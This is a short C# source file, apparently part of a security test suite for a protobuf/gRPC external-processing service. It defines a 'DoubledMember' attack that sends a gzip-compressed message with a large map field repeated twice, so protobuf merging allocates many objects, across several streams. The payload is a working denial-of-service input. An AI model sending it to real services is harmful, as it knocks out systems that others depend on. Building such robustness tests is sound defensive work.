using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Messages;

/// <summary>A message whose member comes twice, so that protobuf merges: the way that makes objects.</summary>
internal sealed class DoubledMember : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target)
    {
        byte[] map = Requests.Field(1, ((ReadOnlySpan<byte>)[0x0A, 0]).Times(target.Count(2 << 20, 7 << 20)));
        byte[] message = Requests.Framed(Requests.Gzip((byte[])[.. Requests.Field(2, map), .. Requests.Field(2, map)]), compressed: true);
        return Compressed.SendAsync(target, message, streams: target.Count(2, 16));
    }
}
